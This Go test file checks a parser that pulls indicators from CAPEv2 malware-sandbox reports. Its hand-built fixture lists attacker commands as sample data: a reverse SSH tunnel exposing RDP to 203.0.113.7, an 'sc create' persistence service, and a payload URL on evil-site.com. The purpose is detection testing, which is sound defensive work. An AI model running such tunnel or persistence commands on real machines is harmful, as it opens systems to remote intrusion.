package payload

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"lurehound"
)

// capeReport is a report made by hand in the form of CAPEv2's.
const capeReport = `{"info":{"version":"2.4-CAPE","id":7},"target":{"file":{"name":"setup.exe","sha256":"00AB7EF667510B77D5CC4C1A6AD0A0C46E195452D3449B0B2E6581376ECE4AAC","strings":["http://elsewhere-in-strings.com/"]}},
"behavior":{"processes":[{"process_id":4,"process_name":"cmd.exe","environ":{"CommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c start 7655.bat"},
 "calls":[{"api":"NtCreateFile","arguments":[{"name":"FileName","value":"C:\\x"}]}]},
 {"command_line":"ssh -N -R 7655:localhost:3389 user@203.0.113.7"}],
"summary":{"files":["C:\\ProgramData\\Updater\\key"],"write_files":["C:\\ProgramData\\Updater\\UpdaterSvc.exe"],
 "write_keys":["HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\UpdaterSvc"],"executed_commands":["sc create UpdaterSvc binPath= x start= auto"],"created_services":["UpdaterSvc"],"mutexes":["x"]}},
"network":{"domains":[{"domain":"Evil-Site.com","ip":"198.51.100.9"}],"hosts":[{"ip":"2001:db8::7","country_name":"x"},"198.51.100.10"],
 "udp":[{"dst":"239.255.255.250","dport":1900}],"http":[{"uri":"http://evil-site.com/a.exe","host":"evil-site.com:80"}]},
"dropped":[{"name":["run.bat"],"guest_paths":["C:\\ProgramData\\run.bat"],"sha256":"aa"}]}`

func TestCAPE(t *testing.T) {
	r, err := ReadCAPE(strings.NewReader(capeReport))
	if err != nil || len(r.Problems) > 0 || r.SHA256 != "00ab7ef667510b77d5cc4c1a6ad0a0c46e195452d3449b0b2e6581376ece4aac" {
		t.Fatal(r.SHA256, r.Problems, err)
	}
	x := r.Indicators
	for name, c := range map[string]struct{ got, want []string }{
		"commands": {x.Commands, []string{`"C:\Windows\system32\cmd.exe" /c start 7655.bat`, "ssh -N -R 7655:localhost:3389 user@203.0.113.7", "sc create UpdaterSvc binPath= x start= auto"}},
		"services": {x.Services, []string{"UpdaterSvc"}},
		"files":    {x.Files, []string{"7655.bat", `C:\Windows\system32\cmd.exe`, `C:\ProgramData\Updater\key`, `C:\ProgramData\Updater\UpdaterSvc.exe`, "run.bat", `C:\ProgramData\run.bat`}},
		"registry": {x.Registry, []string{`HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\UpdaterSvc`}},
		"domains":  {x.Domains, []string{"evil-site.com"}},
		"urls":     {x.URLs, []string{"http://evil-site.com/a.exe"}},
		"ips":      {x.IPs, []string{"203.0.113.7", "198.51.100.9", "2001:db8::7", "198.51.100.10"}},
	} {
		if d := cmp.Diff(c.want, c.got); d != "" {
			t.Errorf("%s: %s", name, d)
		}
	}
}

func TestCAPERefuses(t *testing.T) {
	for text, want := range map[string]string{
		"":                             "it is empty",
		"[]":                           "it is no JSON object",
		"MZ":                           "invalid character",
		"{}":                           "no behavior",
		`{"behavior":{}} {}`:           "more follows",
		capeReport[:len(capeReport)/2]: "in the middle",
		`{"behavior":` + strings.Repeat("[", 100) + strings.Repeat("]", 100) + "}": "more than 64 levels",
	} {
		_, err := ReadCAPE(strings.NewReader(text))
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%.30q: %v, want %q", text, err, want)
		}
	}
}

// Of a kind no more is listed than the limit, and that is said.
func TestCAPELimit(t *testing.T) {
	var b bytes.Buffer
	b.WriteString(`{"behavior":{"summary":{"files":["C:\\a"`)
	for i := range 3 * maxOfKind {
		b.WriteString(`,"C:\\` + strings.Repeat("x", i%maxOfKind+1) + strings.Repeat("y", i/maxOfKind) + `"`)
	}
	b.WriteString(`]}}}`)
	r, err := ReadCAPE(&b)
	if err != nil || len(r.Indicators.Files) != maxOfKind || !slices.ContainsFunc(r.Problems, func(p string) bool { return strings.Contains(p, "kind file are not listed") }) {
		t.Errorf("%d files, %q, %v", len(r.Indicators.Files), r.Problems, err)
	}
}

func FuzzCAPE(f *testing.F) {
	f.Add([]byte(capeReport))
	f.Add([]byte(`{"network":{"hosts":["::1%lo"]}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		if _, err := ReadCAPE(bytes.NewReader(b)); err != nil && strings.Contains(err.Error(), "\n") {
			t.Errorf("%q", err)
		}
	})
}

// TestAddReport: what stands in both is listed once, at its place in the file; the rest is said to be the sandbox's.
func TestAddReport(t *testing.T) {
	r, err := ReadCAPE(strings.NewReader(capeReport))
	if err != nil {
		t.Fatal(err)
	}
	p := lurehound.PayloadFacts{Found: lurehound.Indicators{
		IPs: []string{"203.0.113.7"}, Where: []lurehound.Place{{Kind: "ip", Value: "203.0.113.7", Offset: 77}}}}
	r.Problems = []string{"some are not listed"}
	AddReport(&p, r)
	if d := cmp.Diff([]string{"203.0.113.7", "198.51.100.9", "2001:db8::7", "198.51.100.10"}, p.Found.IPs); d != "" {
		t.Error(d)
	}
	for _, w := range p.Found.Where {
		if inFile := w.Value == "203.0.113.7"; inFile != (w.File == "") || inFile && w.Offset != 77 {
			t.Errorf("%+v", w)
		}
	}
	if d := cmp.Diff([]string{"sandbox report: some are not listed"}, p.Problems); d != "" {
		t.Error(d)
	}
	if rules := Signals(&p); !slices.ContainsFunc(rules, func(s lurehound.Signal) bool { return s.Rule == "tunnel" }) {
		t.Errorf("no tunnel in %+v", rules)
	}
}
